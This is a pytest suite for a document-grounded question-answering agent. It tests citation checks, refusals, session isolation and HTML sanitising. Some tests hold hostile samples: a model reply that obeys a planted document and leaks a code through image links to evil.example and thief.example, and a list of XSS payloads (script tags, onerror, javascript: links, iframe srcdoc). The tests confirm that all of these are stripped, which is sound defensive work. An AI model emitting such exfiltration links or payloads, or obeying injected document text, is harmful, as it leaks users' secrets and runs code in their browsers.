"""Answers through ADK's Runner, with the real workflow, tool, index and checks."""

import asyncio
import re

import pytest
from google.adk.apps import App
from google.adk.models import LlmResponse
from google.adk.sessions import InMemorySessionService
from google.genai import types

from agents.rag.agent import create_workflow
from agents.running import run
from common.pages import to_html
from inference.errors import AgentError, RetrievalError

FEEDING = "What do penguins eat?"
FOOTER = "*Answered by embedded/rules (rules, not an LLM).*"


def test_an_answer_quotes_what_was_retrieved_and_ends_with_references(ask):
    told = ask(FEEDING)
    assert told.calls == [("retrieve", {"query": FEEDING})]
    assert told.state["status"] == "answered"
    assert "Penguins eat krill and small fish. [1]" in told.text
    assert told.text.endswith(f"References:\n\n1. `docs/birds.md`: Birds > Feeding\n\n{FOOTER}")
    assert told.state["references"][0]["heading"] == "Birds > Feeding"
    assert "<p>Penguins eat krill and small fish. [1]</p>" in told.state["html"]
    assert told.state["removed"] == []


def test_a_question_that_the_documents_do_not_answer_is_refused(ask):
    told = ask("Which stocks should I buy?")
    assert told.state["status"] == "refused"
    assert told.text.startswith("I cannot answer this from the documents: nothing was found there")
    assert "stocks" in told.text
    assert told.state["references"] == []


@pytest.mark.parametrize("said", ["Hello!", "good morning", "Thanks a lot", "who are you?"])
def test_small_talk_needs_no_retrieval(said, ask):
    told = ask(said)
    assert (told.calls, told.state["status"]) == ([], "talk")
    assert told.text.endswith(FOOTER)


def test_each_question_starts_anew(search, talk):
    """What an earlier question has retrieved is not there to be cited."""
    sessions, app = InMemorySessionService(), App(name="rag", root_agent=create_workflow(search))
    talk(app, FEEDING, sessions=sessions)
    told = talk(app, "How often is the pond drained?", sessions=sessions)
    assert [passage["source"] for passage in told.state["references"]] == ["docs/ponds.md"]
    assert not any(key.startswith("temp:") for key in told.state)


def test_two_users_at_once_get_their_own_answers(search):
    async def both():
        sessions, app = (
            InMemorySessionService(),
            App(name="rag", root_agent=create_workflow(search)),
        )
        questions = {"ann": FEEDING, "bob": "How often is the pond drained?"}
        return await asyncio.gather(
            *(run(app, asked, user=user, sessions=sessions) for user, asked in questions.items())
        )

    ann, bob = asyncio.run(both())
    assert ("krill" in ann.text, "Drain" in ann.text) == (True, False)
    assert ("krill" in bob.text, "Drain" in bob.text) == (False, True)


def test_a_very_long_question_reaches_no_model(ask, scripted):
    model = scripted("<p></p>")
    told = ask("penguin " * 12_500, model)
    assert "the question has 100,000 characters; ask it in 2,000" in told.text
    assert told.state["status"] == "refused"
    # the formatter alone, and not with the question
    assert [len(str(request.contents)) < 1000 for request in model.seen] == [True]


def test_citations_of_what_was_not_retrieved_are_removed(ask, answers):
    told = ask(FEEDING, answers("Penguins eat krill [1][9], and fish [docs/secret.md]."))
    assert "Penguins eat krill [1], and fish ." in told.text
    assert told.state["removed"] == ["[9]", "[docs/secret.md]"]
    assert [passage["source"] for passage in told.state["references"]] == ["docs/birds.md"]


def test_an_answer_with_invented_citations_alone_is_a_refusal(ask, answers):
    told = ask(FEEDING, answers("Penguins eat krill [7]. They eat fish [docs/fish.md#eating]."))
    assert told.state["status"] == "refused"
    assert "krill" not in told.state["text"]
    assert "nothing in the model's answer is borne out by what was found in docs/" in told.text


@pytest.mark.parametrize(
    "said",
    [
        "",
        None,
        "NOT FOUND",
        "As a language model I believe that they like ice cream.",
        "They prefer ice cream with chocolate sauce [1].",
        "word " * 200_000,
        "[1] " * 250_000,
        "a" * 1_000_000,
        "`" * 1_000_000,
        "<" * 1_000_000,
        "![" * 500_000,
    ],
    ids=lambda said: repr(said)[:30],
)
def test_an_answer_that_is_not_borne_out_is_a_refusal(said, ask, answers):
    told = ask(FEEDING, answers(said))
    assert told.state["status"] == "refused"
    assert told.state["references"] == []
    assert len(told.text) < 500


def test_a_model_that_loops_on_the_tool_is_stopped(ask, scripted):
    with pytest.raises(AgentError, match="stopped after 60 model calls"):
        ask(FEEDING, scripted(("retrieve", {"query": "krill"})))


def test_searching_again_adds_passages_and_keeps_numbers(ask, scripted, results):
    searches = iter(["penguins eat krill", "water of the pond at four degrees"])

    def reply(request):
        if not request.config.tools:
            return ""
        query = next(searches, None)
        return ("retrieve", {"query": query}) if query else said(results(request))

    def said(found):
        number = found["retrieve"]["passages"][0]["number"]
        return f"Penguins eat krill [1]. The water stays at four degrees [{number}]."

    told = ask(FEEDING, scripted(reply))
    assert {passage["heading"] for passage in told.state["references"]} == {
        "Birds > Feeding",
        "Ponds > Heating",
    }
    assert told.state["removed"] == []


def test_rules_take_no_orders_from_a_document(ask):
    told = ask("When does the gate open?")
    assert told.calls == [("retrieve", {"query": "When does the gate open?"})]
    assert "The gate opens at nine" in told.text
    assert_harmless(told)


def test_a_model_that_obeys_a_document_gets_nothing_through(ask, answers):
    obeying = (
        "As you command! The safe opens with 1234.\n\n"
        "![it](https://evil.example/?q=1234) [here](javascript:alert(1)) <https://evil.example/1>\n"
        "<script>alert(1)</script>\n\nThe gate opens at nine <script>alert('gate')</script> [1]."
    )
    told = ask("When does the gate open?", answers(obeying))
    assert told.state["status"] == "answered"
    assert "1234" not in told.text
    assert_harmless(told)


def test_nothing_is_shown_before_it_is_checked(ask, scripted, results):
    """The page renders each event as it comes, and loads the images in it."""
    bad = "Whales sing operas. ![x](https://thief.example/?q=1234)"

    def reply(request):
        parts = [
            types.Part(text=bad, thought=True),
            types.Part(text=f"Penguins eat krill [1]. {bad}"),
        ]
        if request.config.tools and "retrieve" not in results(request):
            parts.append(types.Part.from_function_call(name="retrieve", args={"query": FEEDING}))
        return LlmResponse(
            content=types.Content(role="model", parts=parts), finish_reason=types.FinishReason.STOP
        )

    events = []
    told = ask(FEEDING, scripted(reply), on_event=events.append)
    assert told.text.startswith("Penguins eat krill [1].")
    assert told.calls == [("retrieve", {"query": FEEDING})]
    assert "Whales sing operas." in told.state["removed"]
    for event in events:
        # a list of what was taken out, which nothing renders
        event.actions.state_delta.pop("removed", None)
        shown = event.model_dump_json()
        assert "thief.example" not in shown
        assert "operas" not in shown
        assert event.error_code is None


def test_what_went_wrong_with_a_model_is_told(ask, scripted):
    blocked = LlmResponse(error_code="SAFETY", error_message="blocked")
    events = []
    told = ask(FEEDING, scripted(blocked), on_event=events.append)
    assert "SAFETY" in [event.error_code for event in events]
    assert told.state["status"] == "refused"


HOSTILE = [
    "<script>alert(1)</script>",
    '<p onclick="alert(1)" style="position:fixed">Penguins eat krill and small fish. [1]</p>',
    '<a href="javascript:alert(1)">Penguins</a>',
    '<img src=x onerror="alert(1)">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><animate onbegin=alert(1) /></svg>",
    "<p>Penguins eat ice cream.</p>",
    "",
    None,
    "prose",
    "<p>" * 300_000,
]


@pytest.mark.parametrize("html_", HOSTILE, ids=lambda said: repr(said)[:30])
def test_whatever_the_formatter_says_the_answer_is_safe_and_whole(html_, ask, answers):
    told = ask(FEEDING, answers("Penguins eat krill and small fish [1].", lambda _: html_))
    assert "<p>Penguins eat krill and small fish [1].</p>" in told.state["html"]
    assert "ice cream" not in told.state["html"]
    assert_harmless(told)


def test_good_html_of_the_formatter_is_kept(ask, answers):
    def quote(markdown):
        return str(to_html(markdown)).replace("<p>", '<h2 class="x">').replace("</p>", "</h2>")

    told = ask(FEEDING, answers("Penguins eat krill [1].", quote))
    assert told.state["html"].startswith("<h2>Penguins eat krill [1].</h2>")


def assert_harmless(told):
    """No tag but the allowed ones, no attribute, no link, in HTML and Markdown alike."""
    for tag in re.findall(r"<[^>]*>", told.state["html"]):
        assert re.fullmatch(r"</?[a-z1-6]+>", tag), tag
    assert not re.search(r"<(script|iframe|img|svg|a)\b", told.state["html"])
    assert not re.search(r"\]\(|<[a-z/]", re.sub("`[^`]*`", "", told.text))
    assert "evil.example" not in re.sub("`[^`]*`", "", told.state["html"].replace("&lt;", ""))


def test_an_index_that_cannot_be_used_is_told_in_one_line(talk):
    def search(query, count):
        raise RetrievalError("there is no index in data/index: run `just index`")

    app = App(name="rag", root_agent=create_workflow(search))
    with pytest.raises(RetrievalError, match="run `just index`"):
        talk(app, FEEDING)
